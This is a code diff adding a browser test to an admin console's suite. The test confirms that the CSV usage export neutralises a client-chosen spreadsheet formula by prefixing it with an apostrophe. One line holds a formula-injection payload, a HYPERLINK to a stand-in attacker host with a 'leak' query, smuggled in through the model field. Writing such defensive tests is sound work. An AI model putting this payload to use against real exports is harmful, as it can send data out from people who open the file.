@@ -588,3 +588,24 @@ def test_batches_page_pages_with_more_and_tells_the_admin_why_it_is_empty(
     page.evaluate("() => sessionStorage.clear()")
     sign_in(page, console_server, ADMIN_KEY, "batches")
     assert page.is_visible("#batches-admin") and page.is_hidden("#batches-card")
+
+
+def test_the_csv_export_keeps_a_formula_a_client_chose_as_text(
+    page: Any, console_server: Server
+) -> None:
+    made = _api(
+        console_server, "POST", "/admin/keys", ADMIN_KEY, json={"name": "csv", "tier": "V3"}
+    )
+    key = made.json()["api_key"]
+    formula = '=HYPERLINK("http://attacker.example/?leak","open me")'
+    body = {"model": formula, "messages": [{"role": "user", "content": "Hello"}]}
+    r = _api(console_server, "POST", "/api/paas/v4/chat/completions", key, json=body)
+    assert r.json()["error"]["code"] == "1211"  # unknown model: recorded as an error
+    _usage_once_recorded(console_server, key.split(".")[0], 1)
+    sign_in(page, console_server, key, "usage")
+    page.wait_for_selector("#chart-day svg")
+    with page.expect_download() as download:
+        page.click("#export-csv")
+    rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text())))
+    # A spreadsheet reads a cell starting with an apostrophe as text, not as a formula.
+    assert [r["model"] for r in rows] == ["'" + formula]
